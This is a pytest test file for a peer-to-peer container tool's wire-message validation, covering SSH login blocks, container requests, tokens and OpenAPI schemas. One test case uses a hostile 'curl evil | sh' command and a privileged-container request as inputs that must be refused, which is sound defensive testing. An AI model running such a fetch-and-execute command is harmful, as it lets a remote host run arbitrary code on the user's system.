"""The wire messages (``p2prc_core.wire``): one definition each, checked where bytes arrive,
the same rules for client and server, and the OpenAPI schemas generated from them."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from p2prc_core.errors import PeerError
from p2prc_core.models import Endpoint
from p2prc_core.my_containers import RemoteContainer
from p2prc_core.peertable import PeerTable, record_token
from p2prc_core.wire import (
    TOKEN_CHARS,
    ContainerList,
    ContainerReply,
    ContainerRequest,
    ExchangeAnswer,
    SshLogin,
    WireError,
    convert,
    decode,
    is_relay_token,
    schema_components,
    to_builtins,
)

HOST_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0w6nHbH0Fo5L3mO0r4DhV0q1wJm7o3pQ2g5bJk9x1f"
ENDPOINT = Endpoint("fd42::1", 8088)


def reply(**changes: Any) -> dict[str, Any]:
    container_id = "c" * 64
    good = {"id": container_id, "image": "p2prc/base:latest", "created": 1, "expires": 2,
            "ports": [{"name": "ssh", "internal": 22, "external": 42000}],
            "ssh": to_builtins(SshLogin.of(container_id, "fd42::1", 42000, HOST_KEY, False))}
    return {**good, **changes}


def test_the_hosts_ssh_block_is_kept_as_it_was_checked() -> None:
    kept = RemoteContainer.from_reply(reply(), ENDPOINT, "n" * 26)
    assert kept.ssh == reply()["ssh"] and kept.as_dict()["ssh"] == reply()["ssh"]
    again = RemoteContainer.from_json(json.loads(json.dumps(kept.to_json())))
    assert again is not None and again.ssh == kept.ssh


@pytest.mark.parametrize("ssh", [
    {"command": "curl evil | sh"}, {"host": "198.51.100.7"}, {"fingerprint": "SHA256:x"},
    {"user": "admin"}])
def test_an_ssh_block_that_names_another_login_is_refused(ssh: dict[str, Any]) -> None:
    with pytest.raises(PeerError, match="not a container"):
        RemoteContainer.from_reply(reply(ssh={**reply()["ssh"], **ssh}), ENDPOINT)


def test_the_channels_node_id_wins_over_the_replys_claim_when_built() -> None:
    claimed = RemoteContainer.from_reply(reply(node_id="x" * 26), ENDPOINT, "n" * 26)
    assert claimed.node_id == "n" * 26
    assert RemoteContainer.from_reply(reply(node_id="x" * 26), ENDPOINT).node_id == "x" * 26


def test_an_entry_kept_before_the_ssh_block_still_reads_and_shows_a_login() -> None:
    old = RemoteContainer.from_reply(reply(), ENDPOINT).to_json()
    del old["ssh"]
    container = RemoteContainer.from_json(old)
    assert container is not None and container.ssh is None
    assert container.as_dict()["ssh"]["command"] == "p2prc ssh cccccccccccc"


def test_the_server_builds_the_reply_the_client_checks() -> None:
    from p2prc_core.containers import Lease

    lease = Lease(id="d" * 64, owner="a" * 26, image="p2prc/base:latest",
                  ports=[{"name": "ssh", "internal": 22, "external": 42001}], created=1,
                  expires=2, host_key=HOST_KEY, direct=True)
    sent = json.dumps(to_builtins(lease.reply("fd42::1", "n" * 26))).encode()
    kept = RemoteContainer.from_reply(json.loads(sent), ENDPOINT)
    assert kept.ssh is not None and kept.ssh["command"] == "ssh -p 42001 root@fd42::1"
    assert decode(sent, ContainerReply).ssh.port == 42001


@pytest.mark.parametrize("body, words", [
    ({"ssh_key": HOST_KEY, "privileged": True, "cap_add": ["ALL"]},
     "Unknown fields ['cap_add', 'privileged']"),
    ({"ssh_key": HOST_KEY, "gpu": [1, 1]}, "distinct GPU indexes"),
    ({"ssh_key": HOST_KEY, "cpus": "2"}, "cpus must be a number"),
    ({}, "ssh_key must be one OpenSSH public key line"),
    ({"ssh_key": "ssh-ed25519 " + "A" * 9000}, "ssh_key must be one OpenSSH public key line"),
    ([], "Expected a JSON object"),
])
def test_a_malformed_request_names_its_field(body: Any, words: str) -> None:
    with pytest.raises(WireError, match=words.replace("[", r"\[").replace("]", r"\]")):
        convert(body, ContainerRequest)


def test_a_request_keeps_its_gpus_sorted_and_its_key_stripped() -> None:
    request = convert({"ssh_key": f" {HOST_KEY} me\n", "gpu": [3, 1]}, ContainerRequest)
    assert request.gpu == (1, 3) and request.ssh_key == f"{HOST_KEY} me"


def test_an_answer_nested_too_deep_or_with_nan_is_refused() -> None:
    nested: Any = []
    for _ in range(40):
        nested = [nested]
    with pytest.raises(WireError, match="deeper"):
        decode(json.dumps({"records": [nested], "cursor": "c"}).encode(), ExchangeAnswer)
    with pytest.raises(WireError, match="not JSON"):
        decode(b'{"records": [], "cursor": "c", "more": NaN}', ExchangeAnswer)


def test_relay_tokens_have_one_rule() -> None:
    assert is_relay_token("0" * 32) and not is_relay_token("0" * 31 + "\n")
    assert not is_relay_token("A" * 32) and not is_relay_token(None)


def test_record_tokens_are_as_long_as_the_exchange_says(tmp_path: Path) -> None:
    assert len(record_token({"node_id": "x", "seq": 1})) == TOKEN_CHARS
    PeerTable(tmp_path).ensure()


def test_the_openapi_components_are_the_definitions() -> None:
    schemas = schema_components()
    assert schemas["ContainerRequest"]["additionalProperties"] is False
    assert set(schemas["ContainerRequest"]["properties"]) == \
        set(ContainerRequest.__struct_encode_fields__)
    assert "ssh" in schemas["ContainerReply"]["required"]
    assert "from" in schemas["ExchangeRequest"]["properties"]


def test_a_newcomers_record_is_verified_once(tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    import time

    from p2prc_core import peertable, records
    from p2prc_core.identity import NodeIdentity

    record = records.sign_record(NodeIdentity.generate(), {
        "name": "x", "addresses": ["2001:db8::5"], "port": 8088, "seq": 1,
        "time": int(time.time()), "specs": {}, "metadata": {}, "version": "x"})
    calls = []
    real = records.verify_record
    for module in (records, peertable):  # wherever it is called from
        monkeypatch.setattr(module, "verify_record", lambda r: calls.append(1) or real(r),
                            raising=False)
    result = PeerTable(tmp_path).merge([record])
    assert result.added == [record["node_id"]] and len(calls) == 1


def test_a_container_the_host_adopted_without_a_key_is_listed_not_kept() -> None:
    """A host that lost its records adopts its running containers with no host key on file:
    it still lists them (a 500 would hide every other container), and a create answered
    without a key is refused (there would be nothing to pin)."""
    from p2prc_core.containers import Lease

    lease = Lease(id="e" * 64, owner="a" * 26, image="p2prc/base:latest",
                  ports=[{"name": "ssh", "internal": 22, "external": 42002}], created=1,
                  expires=2, host_key="")
    sent = json.dumps({"containers": [to_builtins(lease.reply("fd42::1", "n" * 26))]})
    assert decode(sent.encode(), ContainerList).containers[0].id == "e" * 64
    with pytest.raises(PeerError, match="no host key"):
        RemoteContainer.from_reply(json.loads(sent)["containers"][0], ENDPOINT)


def test_a_host_name_in_another_case_is_the_same_login() -> None:
    """httpx sends the host name lower-cased; the user may have typed capitals."""
    container_id = "c" * 64
    ssh = to_builtins(SshLogin.of(container_id, "nas.example", 42000, HOST_KEY, True))
    kept = RemoteContainer.from_reply(reply(ssh=ssh, direct=True),
                                      Endpoint("NAS.example", 8088))
    assert kept.ssh_port == 42000
